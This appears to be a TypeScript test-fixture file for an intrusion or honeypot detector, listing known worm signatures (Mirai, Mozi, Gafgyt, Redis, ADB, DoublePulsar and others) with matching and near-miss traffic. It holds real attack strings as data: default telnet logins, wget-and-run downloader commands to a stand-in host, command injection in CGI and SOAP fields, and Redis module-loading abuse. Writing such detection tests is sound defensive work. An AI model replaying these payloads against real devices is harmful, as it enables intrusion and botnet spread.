import { type Proof, agent, get, post, proof, syn, tcp, telnet, udp } from './sketch.ts'

/** A frame filled with one byte: its numbers are all alike, and its flags make no sense. */
const damaged = { syn: 1, synAck: 0, ack: 0, psh: 1, rst: 0, fin: 0, urg: 1 }
const login = telnet('root', 'root', 'ls')

const negotiate = '\u0000\u0000\u0000\u0085\u00ffSMBr\u0000\u0000\u0000'

/** A TRANS2 request of SMB1 ([MS-CIFS] 2.2.4.46): the multiplex id in its header, the subcommand as its only set-up word. */
const trans2 = (multiplex: string, subcommand: string): string =>
  `\u0000\u0000\u0000O\u00ffSMB2${'\u0000'.repeat(4)}\u0018\u0007\u00c0${'\u0000'.repeat(12)}\u0000\u0008\u00ff\u00fe\u0000\u0008${multiplex}` +
  `\u000f\u000c\u0000${'\u0000'.repeat(16)}\u000c\u0000${'\u0000'.repeat(6)}\u0001\u0000${subcommand}\u0000\u0000`

export const wormProofs: readonly Proof[] = [
  proof(
    'mirai',
    [syn(23, { sequenceIsDestination: true }), syn(2323, { sequenceIsDestination: true })],
    [syn(23), syn(23, { sequenceIsDestination: true, flags: damaged })],
  ),
  proof('mirai-loader', telnet('root', 'xc3511', 'enable', 'sh', '/bin/busybox MIRAI'), [
    login,
    telnet('/bin/busybox ls'),
  ]),
  proof('busybox-dropper', telnet('root', 'root', 'cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh'), [
    login,
    telnet('wget --help'),
  ]),
  proof('hajime', telnet('enable', 'sh', 'cat /proc/mounts; /bin/busybox QWERT'), [
    telnet('/bin/busybox QWERT'),
    telnet('cat /proc/mounts; /bin/busybox ECCHI'),
    telnet('/bin/busybox cat /proc/mounts; /bin/busybox ECCHI'),
  ]),
  proof(
    'mozi',
    [
      get(
        '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=wget+http://198.51.100.7:8088/Mozi.m+-O+/tmp/netgear',
      ),
      tcp(8080, 'wget http://198.51.100.7/Mozi.a'),
    ],
    get('/mozilla.html'),
  ),
  proof(
    'gafgyt',
    [telnet('cd /tmp; wget http://198.51.100.7/bins.sh'), post('/', 'wget http://198.51.100.7/bins.sh')],
    [telnet('bins'), get('/bins.html')],
  ),
  proof('satori-huawei', post('/ctrlt/DeviceUpgrade_1', '<NewStatusURL>$(/bin/busybox)</NewStatusURL>'), [
    get('/ctrlt/DeviceUpgrade_1'),
    post('/ctrlt'),
  ]),
  proof(
    'realtek-upnp-worm',
    post('/picdesc.xml', '<NewInternalClient>`x`</NewInternalClient>', {
      headers: { SOAPAction: 'urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping' },
    }),
    [get('/picdesc.xml'), post('/picdesc.xml')],
  ),
  proof(
    'redis-cron-worm',
    tcp(6379, '*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$3\r\ndir\r\n$16\r\n/var/spool/cron/\r\n'),
    [tcp(6379, '*4\r\n$6\r\nconfig\r\n$3\r\nget\r\n$3\r\ndir\r\n'), tcp(6379, 'config set dir /tmp')],
  ),
  proof(
    'redis-replication-abuse',
    tcp(6379, 'SLAVEOF 198.51.100.7 6379\r\nCONFIG SET dbfilename exp.so\r\nMODULE LOAD ./exp.so\r\n'),
    tcp(6379, 'SLAVEOF NO ONE\r\n'),
  ),
  proof(
    'adb-worm',
    tcp(
      5555,
      'CNXN\u0000\u0000\u0000\u0001host::\u0000OPENshell:cd /data/local/tmp; wget http://198.51.100.7/x\u0000',
    ),
    tcp(5555, 'CNXN\u0000\u0000\u0000\u0001host::\u0000'),
  ),
  proof('sql-slammer', udp(1434, '\u0004\u0001\u0001\u0001\u0001\u0001\u0001\u0001'), [
    udp(1434, '\u0002'),
    udp(1435, '\u0004\u0001\u0001\u0001\u0001\u0001\u0001\u0001'),
  ]),
  proof(
    'doublepulsar',
    [tcp(445, negotiate + trans2('A\u0000', '\u000e\u0000')), tcp(445, trans2('B\u0000', '\u000e\u0000'))],
    [
      tcp(445, '\u0000\u0000\u0000\u0085\u00ffSMBr\u0000\u0000\u0000'),
      tcp(8445, trans2('A\u0000', '\u000e\u0000')),
      // QUERY_PATH_INFO of a plain SMB1 client, whose parameters hold the same two bytes.
      tcp(445, `${negotiate}${trans2('A\u0000', '\u0005\u0000')}\u000e\u0000\u000e\u0000`),
      tcp(445, trans2('\u0005\u0000', '\u000e\u0000')),
    ],
  ),
  proof('androxgh0st', post('/', '0x[]=androxgh0st'), post('/', '0x[]=other')),
  proof('redtail', agent('libredtail-http'), agent('redtail')),
  proof('the-moon', post('/tmUnblock.cgi', 'submit_button=&change_action=&action='), [
    get('/tmUnblock.cgi'),
    post('/tmBlock.cgi'),
  ]),
  proof('hello-world-bot', [agent('Hello, World'), agent('Hello World')], agent('Hello, Worldwide')),
  proof(
    'shell-downloader',
    [
      get('/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws'),
      post('/x', 'cmd=`wget http://198.51.100.7/x`'),
    ],
    [get('/docs/wget-http.html'), get('/cd+rom')],
  ),
]
